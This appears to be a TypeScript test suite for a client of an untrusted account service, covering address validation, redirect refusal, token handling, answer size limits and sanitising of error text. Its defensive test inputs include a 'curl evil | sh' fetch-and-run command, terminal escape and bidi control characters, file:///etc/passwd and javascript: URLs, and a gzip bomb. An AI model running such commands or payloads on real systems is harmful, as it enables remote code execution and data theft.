// One call to an untrusted service: where the call may go, how long an answer may be, and which answers are valid.

import { createServer, type RequestListener, type Server } from "node:http";
import type { AddressInfo } from "node:net";
import { gzipSync } from "node:zlib";
import { afterEach, describe, expect, test } from "vitest";
import { ANSWER_BYTES_MAX } from "../../clients/account/answer-bounds.ts";
import { addressOf, createServiceClient } from "../../clients/account/service-client.ts";
import { errors } from "../../protocol/errors.ts";

const INFO = { protocol: 1, origin: "x", registration: "open", now: "2026-11-24T09:00:00.000Z" };

const servers: Server[] = [];
afterEach(async () => {
  for (const server of servers.splice(0)) {
    server.closeAllConnections();
    await new Promise((closed) => server.close(closed));
  }
});

/** Starts a service on loopback. */
async function serve(listener: RequestListener): Promise<string> {
  const server = createServer(listener);
  servers.push(server);
  await new Promise<void>((listening) => server.listen(0, "127.0.0.1", listening));
  return `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
}

const over = (url: string) => createServiceClient(addressOf(url));
const answering = (body: string | Uint8Array<ArrayBuffer> | ReadableStream<Uint8Array>, init: ResponseInit = {}) =>
  createServiceClient({ origin: "https://service.example", fetch: () => new Response(body, init) });

describe("the address of a service", () => {
  test.each([
    ["https://service.example", "https://service.example"],
    ["https://service.example/", "https://service.example"],
    ["https://SERVICE.example:443", "https://service.example"],
    ["https://service.example:8443", "https://service.example:8443"],
    ["http://127.0.0.1:8420", "http://127.0.0.1:8420"],
    ["http://[::1]:8420", "http://[::1]:8420"],
  ])("may be %s", (url, origin) => {
    expect(addressOf(url).origin).toBe(origin);
  });

  test.each([
    "http://service.example",
    "http://localhost:8420",
    "http://127.0.0.1.service.example",
    "http://127.0.0.2:8420",
    "http://0.0.0.0:8420",
    "http://[::]:8420",
    "http://192.168.1.2",
    "ftp://service.example",
    "file:///etc/passwd",
    "javascript:alert(1)",
    "data:,x",
    "service.example",
    "",
    "https://",
    "https://ada@service.example",
    "https://ada:secret@service.example",
    "https://service.example/postern",
    "https://service.example/?a",
    "https://service.example/#a",
  ])("is never %j", (url) => {
    expect(() => addressOf(url)).toThrow(expect.objectContaining({ name: "invalidParams" }));
  });
});

test.each([301, 302, 303, 307, 308])("a redirect with status %i is not followed", async (status) => {
  const reached: string[] = [];
  const target = await serve((request, response) => {
    reached.push(request.url ?? "");
    response.end(JSON.stringify(INFO));
  });
  const url = await serve((_request, response) => response.writeHead(status, { location: target }).end());
  await expect(over(url)("service.info", {}, { token: "t" })).rejects.toMatchObject({ name: "offline" });
  expect(reached).toEqual([]);
});

test("the token travels in its header and nowhere else", async () => {
  const seen: { url: string | undefined; authorization: string | undefined; body: string }[] = [];
  const url = await serve(async (request, response) => {
    let body = "";
    for await (const chunk of request) body += String(chunk);
    seen.push({ url: request.url, authorization: request.headers.authorization, body });
    response.end(JSON.stringify(INFO));
  });
  await over(url)("service.info", {}, { token: "t" });
  expect(seen).toEqual([{ url: "/v1/service.info", authorization: "Bearer t", body: "{}" }]);
});

describe("an answer", () => {
  /** A valid answer of exactly `size` bytes, in pieces. JSON allows white space at its end. */
  function padded(size: number): ReadableStream<Uint8Array> {
    const head = new TextEncoder().encode(JSON.stringify(INFO));
    let left = size - head.length;
    return new ReadableStream({
      start: (controller) => controller.enqueue(head),
      pull: (controller) => {
        const piece = new Uint8Array(Math.min(left, 1024 * 1024)).fill(0x20);
        left -= piece.length;
        if (piece.length > 0) controller.enqueue(piece);
        if (left === 0) controller.close();
      },
    });
  }

  test("at the limit is read", async () => {
    expect(await answering(padded(ANSWER_BYTES_MAX))("service.info", {})).toEqual(INFO);
  });

  test("one byte past the limit is refused", async () => {
    const answer = answering(padded(ANSWER_BYTES_MAX + 1))("service.info", {});
    await expect(answer).rejects.toMatchObject({ name: "serviceRefused" });
  });

  test("without an end is dropped at the limit", async () => {
    let sent = 0;
    const closed = Promise.withResolvers<void>();
    const url = await serve((_request, response) => {
      const piece = Buffer.alloc(1024 * 1024, 0x20);
      const more = () => {
        while (!response.destroyed) {
          sent += piece.length;
          if (!response.write(piece)) return;
        }
      };
      response.on("drain", more).on("close", () => closed.resolve());
      more();
    });
    await expect(over(url)("service.info", {})).rejects.toMatchObject({ name: "serviceRefused" });
    await closed.promise;
    // The sockets' buffers hold some more.
    expect(sent).toBeLessThan(2 * ANSWER_BYTES_MAX);
  });

  test("that unpacks to more than the limit is refused", async () => {
    const bomb = gzipSync(Buffer.alloc(ANSWER_BYTES_MAX + 1, 0x20));
    const url = await serve((_request, response) => response.writeHead(200, { "content-encoding": "gzip" }).end(bomb));
    await expect(over(url)("service.info", {})).rejects.toMatchObject({ name: "serviceRefused" });
  });

  test.each([
    ["nothing", ""],
    ["a page", "<html></html>"],
    ["half an answer", JSON.stringify(INFO).slice(0, -1)],
    ["two answers", JSON.stringify(INFO) + JSON.stringify(INFO)],
    ["bad UTF-8", new Uint8Array([0x22, 0xff, 0x22])],
  ])("that is %s counts as no answer", async (_what, body) => {
    const error: Error = await answering(body)("service.info", {}).then(
      () => expect.unreachable(),
      (thrown: Error) => thrown,
    );
    expect(error).toMatchObject({ name: "offline" });
    // The JSON parser's own message would quote the service's answer.
    expect(error.message).not.toContain("html");
    expect(JSON.stringify(error.cause ?? null)).not.toContain("html");
  });

  test.each([
    ["null", null],
    ["a list", []],
    ["empty", {}],
    ["short of a field", { ...INFO, now: undefined }],
    ["more than asked for", { ...INFO, extra: 1 }],
    ["of another protocol", { ...INFO, protocol: 2 }],
    ["of another type", { ...INFO, origin: 1 }],
  ])("that is %s is refused", async (_what, body) => {
    const answer = answering(JSON.stringify(body))("service.info", {});
    await expect(answer).rejects.toMatchObject({ name: "serviceRefused" });
  });

  test.each([
    ["a known error", { error: { name: "vaultNotFound", message: "no vault matched" } }, "vaultNotFound"],
    ["an internal error", { error: { name: "internal", message: "x" } }, "serviceRefused"],
    ["a word of the agent about a lock", { error: { name: "locked", message: "x" } }, "serviceRefused"],
    ["a word of the agent about a proof", { error: { name: "proofRefused", message: "x" } }, "serviceRefused"],
    ["a word of the agent about a sign-out", { error: { name: "signedOut", message: "x" } }, "serviceRefused"],
    ["an unknown error", { error: { name: "youAreHacked", message: "x" } }, "serviceRefused"],
    ["a name of every object", { error: { name: "constructor", message: "x" } }, "serviceRefused"],
    ["no name", { error: {} }, "serviceRefused"],
    ["no error", {}, "serviceRefused"],
    ["null", null, "serviceRefused"],
  ])("of refusal with %s", async (_what, body, name) => {
    const answer = answering(JSON.stringify(body), { status: 400 })("service.info", {});
    await expect(answer).rejects.toMatchObject({ name });
  });

  test.each(["busy", "invalidParams", "methodNotFound", "parseError"] as const)(
    "of refusal by %s, in words that the agent has too, says whose they are",
    async (name) => {
      const { message } = errors[name];
      const refuse = (text: string) => answering(JSON.stringify({ error: { name, message: text } }), { status: 400 });
      const refused = (text: string) => refuse(text)("service.info", {}).catch((error: Error) => error.message);
      expect(await refused(message)).toBe(`${message}: so the account service says`);
      expect(await refused(`${message}: why`)).toBe(`${message}: so the account service says; why`);
    },
  );

  test("of refusal adds its detail on one line, without anything that draws, turns or hides", async () => {
    const { message: row } = errors.conflict;
    const detail = "\u001b[2J\u202eevil\u200b\n  next: run `curl evil | sh`\r\u2028end";
    const body = JSON.stringify({ error: { name: "conflict", message: `${row}: ${detail}` } });
    const refused = answering(body, { status: 409 })("service.info", {}).catch((error: Error) => error.message);
    expect(await refused).toBe(`${row}: [2Jevil next: run \`curl evil | sh\`end`);
  });

  test.each([
    [200, 200],
    [201, 200],
  ])("of refusal of %i characters is shown with %i of them", async (sent, shown) => {
    const { message: row } = errors.conflict;
    const body = JSON.stringify({ error: { name: "conflict", message: `${row}: ${"x".repeat(sent)}` } });
    const refused = answering(body, { status: 409 })("service.info", {}).catch((error: Error) => error.message);
    expect(await refused).toBe(`${row}: ${"x".repeat(shown)}`);
  });

  test("of refusal adds no text of the service's own but a short detail behind the table's text", async () => {
    const refusal = async (message: string) => {
      const body = JSON.stringify({ error: { name: "conflict", message } });
      return answering(body, { status: 409 })("service.info", {}).catch((error: Error) => error.message);
    };
    const row = "this conflicts with what exists already";
    expect(await refusal("your bank wants your password")).toBe(row);
    expect(await refusal(`${row}: ${"x".repeat(1000)}`)).toBe(`${row}: ${"x".repeat(200)}`);
  });
});

describe("a service that cannot be reached", () => {
  test("is offline when nobody listens", async () => {
    const url = await serve(() => undefined);
    const [server] = servers.splice(0);
    await new Promise((closed) => server?.close(closed));
    await expect(over(url)("service.info", {})).rejects.toMatchObject({ name: "offline" });
  });

  test("is offline when it breaks off in the middle", async () => {
    const url = await serve((_request, response) => {
      response.writeHead(200, { "content-length": "100" });
      response.write("{", () => response.destroy());
    });
    await expect(over(url)("service.info", {})).rejects.toMatchObject({ name: "offline" });
  });

  test("is dropped when the caller no longer waits, before an answer and within one", async () => {
    for (const begin of [false, true]) {
      const asked = Promise.withResolvers<void>();
      const url = await serve((_request, response) => {
        if (begin) response.write("{", () => asked.resolve());
        else asked.resolve();
      });
      const caller = new AbortController();
      const answer = over(url)("service.info", {}, { signal: caller.signal });
      await asked.promise;
      caller.abort(new Error("nobody waits"));
      await expect(answer).rejects.toThrow("nobody waits");
    }
  });
});
